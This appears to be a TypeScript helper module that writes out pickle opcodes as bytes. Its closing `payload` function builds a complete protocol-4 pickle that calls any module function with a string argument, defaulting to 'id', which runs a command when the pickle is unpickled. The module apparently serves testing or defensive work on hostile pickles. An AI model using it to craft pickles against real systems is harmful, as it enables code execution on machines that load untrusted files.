import { joined, u8, u32, u64, utf8 } from './bytes.ts'

/** Opcodes of pickle as their bytes, by the names of CPython's pickletools. A hostile pickle is a list of them. */
type Bytes = Uint8Array

export const proto = (version: number): Bytes => u8(0x80, version)
export const stop: Bytes = u8(0x2e)
export const mark: Bytes = u8(0x28)
export const reduce: Bytes = u8(0x52)
export const build: Bytes = u8(0x62)
export const emptyTuple: Bytes = u8(0x29)
export const emptyDict: Bytes = u8(0x7d)
export const tuple1: Bytes = u8(0x85)
export const tuple2: Bytes = u8(0x86)
export const stackGlobal: Bytes = u8(0x93)
export const newobj: Bytes = u8(0x81)
export const newobjEx: Bytes = u8(0x92)
export const memoize: Bytes = u8(0x94)
export const pop: Bytes = u8(0x30)
export const none: Bytes = u8(0x4e)

export const global = (module: string, name: string): Bytes => joined('c', utf8(`${module}\n${name}\n`))
export const inst = (module: string, name: string): Bytes => joined('i', utf8(`${module}\n${name}\n`))
/** SHORT_BINUNICODE. */
export const text = (value: string): Bytes => joined(u8(0x8c, utf8(value).length), utf8(value))
/** BINUNICODE. */
export const longText = (value: string): Bytes => joined('X', u32(utf8(value).length), utf8(value))
/** BINBYTES8. */
export const bytes8 = (value: Bytes): Bytes => joined(u8(0x8e), u64(value.length), value)
export const named = (module: string, name: string): Bytes => joined(text(module), text(name), stackGlobal)
export const binput = (index: number): Bytes => u8(0x71, index)
export const binget = (index: number): Bytes => u8(0x68, index)
export const int1 = (value: number): Bytes => u8(0x4b, value)
export const frame = (length: number | bigint): Bytes => joined(u8(0x95), u64(length))

/** A call with one text, the usual payload. */
export const callWith = (callee: Bytes, argument: string): Bytes => joined(callee, text(argument), tuple1, reduce)
/** A whole pickle of protocol 4 that calls `module.name` with one text. */
export const payload = (module: string, name: string, argument = 'id'): Bytes =>
  joined(proto(4), callWith(named(module, name), argument), stop)
